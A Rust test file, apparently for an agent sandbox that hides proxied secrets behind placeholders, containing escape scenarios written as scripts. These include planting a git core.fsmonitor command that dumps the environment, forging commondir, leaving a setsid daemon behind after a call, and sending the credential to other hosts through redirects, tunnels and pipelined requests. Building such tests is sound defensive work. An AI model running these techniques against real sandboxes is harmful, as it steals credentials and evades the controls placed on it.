//! Proxy-delivered secrets against an agent that wants the value: code
//! the agent plants runs in the tool (a nested repository's or a
//! `commondir`'s `core.fsmonitor`, a tool that writes its environment into
//! the workspace), a tool leaves a `setsid` child behind, and the agent
//! sends its own placeholder where it does not belong (another host, a
//! redirect, a second pipelined request). Every case then looks for the
//! value everywhere the agent can read: its output, the workspace, the
//! audit log, and what the other hosts received.

use std::io::Read;
use std::process::Stdio;

use super::proxied::*;
use super::*;

/// A session trusting `host`, its values in cordon's environment, run in
/// the workspace.
fn session(host: &Host, c: &Case, p: &Profile, script: &str) -> Run {
    let mut cmd = host.cordon_run(c, p);
    cmd.current_dir(&c.workspace)
        .args(["/usr/bin/dash", "-c", script]);
    Run::from(cmd.output().unwrap())
}

/// Requests the host received that carry `value`, and whether each was
/// for `localhost:PORT`.
fn carried(host: &Host, value: &str) -> Vec<(bool, String)> {
    let mine = format!("host: localhost:{}\r\n", host.port());
    host.heads()
        .into_iter()
        .filter(|h| forms(value).iter().any(|f| h.contains(f)))
        .map(|h| (h.to_ascii_lowercase().contains(&mine), h))
        .collect()
}

/// The tool `name` (its real binary `path`) holding `secret` through the
/// call's own proxy, which reaches `host` by name.
fn proxied_tool(host: &Host, name: &str, path: &str, secret: &str) -> String {
    format!(
        "[tools.{name}]\npath = \"{path}\"\nallow = [[\"**\"]]\nsecrets = [\"{secret}\"]\n\n\
         [tools.{name}.sandbox]\nallow_hosts = [\"{}\"]\n\n",
        host.allow_name()
    )
}

/// A git tool holding `GITHUB_TOKEN` as a placeholder.
fn git_profile(host: &Host) -> Profile {
    let mut p = client_profile(host);
    p.extra = format!(
        "{}exec = [\"/usr/lib/git-core\"]\n\n{}",
        proxied_tool(host, "git", "/usr/bin/git", "GITHUB_TOKEN"),
        git_secret(host, "")
    );
    p
}

/// The agent holding `API_KEY` as a placeholder, and `host` also
/// reachable by address (another host, a plain tunnel).
fn agent_profile(host: &Host) -> Profile {
    let mut p = client_profile(host);
    p.allow_hosts.push(host.allow_address());
    p.extra = format!(
        "[environment]\nsecrets = [\"API_KEY\"]\n\n{}",
        api_secret(host, "")
    );
    p
}

/// Asserts `file` (in the workspace) was written by the planted code and
/// holds `NAME=<placeholder>`.
fn holds_placeholder(c: &Case, file: &str, name: &str) {
    let text = std::fs::read_to_string(c.workspace.join(file))
        .unwrap_or_else(|e| panic!("the planted code wrote no {file}: {e}"));
    assert!(
        text.contains(&format!("{name}=cordon-placeholder-")),
        "{file} holds no placeholder for {name}:\n{text}"
    );
}

pub(super) fn cases() -> Vec<Escape> {
    vec![
        case(
            "secrets.fsmonitor-in-nested-repo",
            "plant core.fsmonitor in a nested repository's config and run `git status` there, to write the token into the workspace",
            |c| {
                need_clients();
                let host = Host::start();
                let r = session(
                    &host,
                    c,
                    &git_profile(&host),
                    "git init -q sub && \
                     printf '[core]\\n\\tfsmonitor = \"env > ../leak-fsmonitor.txt; false\"\\n' >> sub/.git/config && \
                     git -C sub status; echo rc=$?",
                );
                assert!(r.stdout.contains("rc=0"), "{r:#?}");
                holds_placeholder(c, "leak-fsmonitor.txt", "GITHUB_TOKEN");
                assert_unseen(c, &r.stdout, &r.stderr);
            },
        ),
        case(
            "secrets.fsmonitor-through-commondir",
            "point a repository's .git/commondir at a directory whose config has core.fsmonitor, then `git status`",
            |c| {
                need_clients();
                let host = Host::start();
                let r = session(
                    &host,
                    c,
                    &git_profile(&host),
                    "mkdir -p sub/.git evil/objects evil/refs && \
                     echo 'ref: refs/heads/main' > sub/.git/HEAD && \
                     echo ../../evil > sub/.git/commondir && \
                     printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = \"env > ../leak-commondir.txt; false\"\\n' > evil/config && \
                     git -C sub status; echo rc=$?",
                );
                assert!(r.stdout.contains("rc=0"), "{r:#?}");
                holds_placeholder(c, "leak-commondir.txt", "GITHUB_TOKEN");
                assert_unseen(c, &r.stdout, &r.stderr);
            },
        ),
        case(
            "secrets.tool-writes-env-to-workspace",
            "have a tool write its whole environment into the workspace, then use the credential it holds",
            |c| {
                need_clients();
                let host = Host::start();
                let mut p = as_tool(client_profile(&host), "/usr/bin/python3.11");
                p.extra = format!(
                    "{}{}",
                    proxied_tool(&host, "python3", "/usr/bin/python3", "API_KEY"),
                    api_secret(&host, "")
                );
                let port = host.port();
                let script = format!(
                    "python3 -c 'import os, urllib.request as u
open(\"leak-env.txt\", \"w\").write(\"\".join(k + \"=\" + v + \"\\n\" for k, v in os.environ.items()))
r = u.Request(\"https://localhost:{port}/echo\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"API_KEY\"]}})
print(u.urlopen(r).read().decode())'; echo rc=$?"
                );
                let r = session(&host, c, &p, &script);
                assert!(r.stdout.contains("rc=0"), "{r:#?}");
                holds_placeholder(c, "leak-env.txt", "API_KEY");
                // The placeholder worked where it belongs: the call's proxy
                // put the value into the request to the secret's host.
                let got = carried(&host, API_VALUE);
                assert_eq!(got.len(), 1, "{got:#?}");
                assert!(got[0].0, "{got:#?}");
                assert_unseen(c, &r.stdout, &r.stderr);
            },
        ),
        case(
            "secrets.stale-placeholder-replayed",
            "take the placeholder a tool call wrote out and send it again, from the agent and from a later call of the tool",
            |c| {
                need_clients();
                let host = Host::start();
                let mut p = as_tool(client_profile(&host), "/usr/bin/python3.11");
                p.extra = format!(
                    "{}{}",
                    proxied_tool(&host, "python3", "/usr/bin/python3", "API_KEY"),
                    api_secret(&host, "")
                );
                let port = host.port();
                std::fs::write(
                    c.workspace.join("send.py"),
                    "import os, sys, urllib.request as u\n\
                     token = sys.argv[2] if len(sys.argv) > 2 else os.environ['API_KEY']\n\
                     open('ph-%d.txt' % len(sys.argv), 'w').write(os.environ.get('API_KEY', ''))\n\
                     r = u.Request('https://localhost:%s/echo' % sys.argv[1], headers={'Authorization': 'Bearer ' + token})\n\
                     print(u.urlopen(r).status)\n",
                )
                .unwrap();
                // Call 1 uses its own placeholder (injected) and leaves it
                // in the workspace; call 2 sends call 1's; the agent sends it
                // straight through a tunnel of its own (it holds no CA of
                // the session: -k, the host is the test's own).
                p.allow_hosts.push(host.allow_address());
                let script = format!(
                    "python3 send.py {port}; old=$(cat ph-2.txt); \
                     python3 send.py {port} \"$old\"; \
                     curl -sS -k -m 10 --http1.1 -o /dev/null -w 'agent=%{{http_code}}\\n' -H \"Authorization: Bearer $old\" https://127.0.0.1:{port}/echo; \
                     echo rc=$?"
                );
                let r = session(&host, c, &p, &script);
                assert!(r.stdout.contains("rc=0"), "{r:#?}");
                let old = std::fs::read_to_string(c.workspace.join("ph-2.txt")).unwrap();
                let newer = std::fs::read_to_string(c.workspace.join("ph-3.txt")).unwrap();
                assert!(old.starts_with("cordon-placeholder-") && newer.starts_with("cordon-placeholder-"));
                assert_ne!(old, newer, "each call gets a fresh placeholder");
                // Only call 1's own request carried the value.
                let got = carried(&host, API_VALUE);
                assert_eq!(got.len(), 1, "{got:#?}");
                let with_old = host.heads().iter().filter(|h| h.contains(old.as_str())).count();
                assert_eq!(with_old, 2, "the stale placeholder arrived as itself: {:#?}", host.heads());
                assert_unseen(c, &r.stdout, &r.stderr);
            },
        ),
        case(
            "secrets.setsid-child-outlives-call",
            "leave a setsid daemon behind a tool call that held a secret, to use it after the call",
            |c| {
                need_clients();
                let host = Host::start();
                let mut p = client_profile(&host);
                let tok = token("secrets-daemon");
                p.extra = format!(
                    "[tools.tp]\npath = \"{}\"\nallow = [[\"**\"]]\nsecrets = [\"RAW\"]\n\n\
                     [secrets.RAW]\nfrom = \"env:{API_ENV}\"\n",
                    c.tool_probe().display()
                );
                let called = c.workspace.join("called");
                let checked = c.workspace.join("checked");
                let script = format!(
                    "tp daemon {tok}; echo called > called; i=0; \
                     while [ ! -e checked ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done; echo waited"
                );
                let mut cmd = host.cordon_run(c, &p);
                cmd.current_dir(&c.workspace)
                    .args(["/usr/bin/dash", "-c", &script])
                    .stdout(Stdio::piped())
                    .stderr(Stdio::piped());
                let mut child = cmd.spawn().unwrap();
                let came = wait_until(Duration::from_secs(60), || called.exists());
                // The call has ended (the agent has its reply, so its
                // call_end is written): nothing of it may be left.
                let left = processes_with(&tok);
                let ended = proxied::records(c, "call_end");
                std::fs::write(&checked, "").unwrap();
                let mut out = String::new();
                let mut err = String::new();
                let _ = child.stdout.take().unwrap().read_to_string(&mut out);
                let _ = child.stderr.take().unwrap().read_to_string(&mut err);
                let status = child.wait().unwrap();
                assert!(came, "the call never returned: {out}\n{err}");
                assert!(out.contains("daemonized"), "the daemon never started: {out}\n{err}");
                assert!(left.is_empty(), "the call's daemon survived its end: {left:?}");
                assert_eq!(ended.len(), 1, "{ended:#?}");
                assert_eq!(status.code(), Some(0), "{out}\n{err}");
            },
        ),
        case(
            "secrets.placeholder-to-another-host",
            "send the agent's placeholder to a host that is not its secret's, in plain HTTP and through a tunnel",
            |c| {
                need_clients();
                let host = Host::start();
                let plain = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
                let plain_port = plain.local_addr().unwrap().port();
                plain.set_nonblocking(true).unwrap();
                let mut p = agent_profile(&host);
                p.allow_hosts.push(format!("localhost:{plain_port} via 127.0.0.1"));
                let port = host.port();
                let script = format!(
                    "curl -sS -m 10 -o /dev/null -w 'plain=%{{http_code}}\\n' -H \"Authorization: Bearer $API_KEY\" http://localhost:{plain_port}/x; \
                     curl -sS -m 10 --http1.1 -H \"X-Token: $API_KEY\" https://127.0.0.1:{port}/echo; echo tunnel=$?"
                );
                let r = session(&host, c, &p, &script);
                assert!(r.stdout.contains("plain=403"), "{r:#?}");
                assert!(r.stdout.contains("tunnel=0"), "{r:#?}");
                assert!(plain.accept().is_err(), "the plain request reached its host");
                // The other host got the placeholder, never the value.
                assert!(carried(&host, API_VALUE).is_empty(), "{:#?}", host.heads());
                assert!(host.received().contains("cordon-placeholder-"), "{:#?}", host.heads());
                let refused: Vec<_> = proxied::records(c, "inject")
                    .into_iter()
                    .filter(|r| r["decision"] == "deny")
                    .collect();
                assert_eq!(refused.len(), 1, "{refused:#?}");
                assert_unseen(c, &r.stdout, &r.stderr);
            },
        ),
        case(
            "secrets.redirect-to-another-host",
            "follow a redirect from the secret's host to another, resending the credential header",
            |c| {
                need_clients();
                let host = Host::start();
                let port = host.port();
                let script = format!(
                    "curl -sS -m 10 --http1.1 -L --location-trusted -H \"Authorization: Bearer $API_KEY\" https://localhost:{port}/redirect; echo rc=$?"
                );
                let r = session(&host, c, &agent_profile(&host), &script);
                assert!(r.stdout.contains("rc=0"), "{r:#?}");
                let heads = host.heads();
                assert_eq!(heads.len(), 2, "the redirect was followed: {heads:#?}");
                let got = carried(&host, API_VALUE);
                assert_eq!(got.len(), 1, "{got:#?}");
                assert!(got[0].0 && got[0].1.starts_with("GET /redirect "), "{got:#?}");
                assert!(heads[1].contains("cordon-placeholder-"), "{heads:#?}");
                assert_unseen(c, &r.stdout, &r.stderr);
            },
        ),
        case(
            "secrets.pipelined-request-to-another-host",
            "pipeline a second request naming another Host behind an injected one on the same tunnel",
            |c| {
                need_clients();
                let host = Host::start();
                let port = host.port();
                let script = format!(
                    "python3 -c 'import os, socket, ssl
s = socket.create_connection((\"127.0.0.1\", int(os.environ[\"HTTPS_PROXY\"].rsplit(\":\", 1)[1])))
s.sendall(b\"CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n\")
got = b\"\"
while not got.endswith(b\"\\r\\n\\r\\n\"):
    got += s.recv(1)
print(got.decode().splitlines()[0])
t = ssl.create_default_context(cafile=os.environ[\"SSL_CERT_FILE\"]).wrap_socket(s, server_hostname=\"localhost\")
auth = \"Authorization: Bearer \" + os.environ[\"API_KEY\"] + \"\\r\\n\"
one = \"GET /echo HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\" + auth + \"\\r\\n\"
two = \"GET /echo HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\" + auth + \"\\r\\n\"
t.sendall((one + two).encode())
t.settimeout(10)
data = b\"\"
try:
    while True:
        b = t.recv(65536)
        if not b:
            break
        data += b
except Exception as e:
    print(\"end:\", type(e).__name__)
print(data.decode(\"latin-1\"))'; echo rc=$?"
                );
                let r = session(&host, c, &agent_profile(&host), &script);
                assert!(r.stdout.contains("rc=0"), "{r:#?}");
                assert!(r.stdout.contains("200"), "{r:#?}");
                let heads = host.heads();
                assert_eq!(heads.len(), 1, "only the first request went on: {heads:#?}");
                let got = carried(&host, API_VALUE);
                assert!(got.len() == 1 && got[0].0, "{got:#?}");
                let refused: Vec<_> = proxied::records(c, "inject")
                    .into_iter()
                    .filter(|r| r["decision"] == "deny")
                    .collect();
                assert_eq!(refused.len(), 1, "{refused:#?}");
                assert_unseen(c, &r.stdout, &r.stderr);
            },
        ),
    ]
}
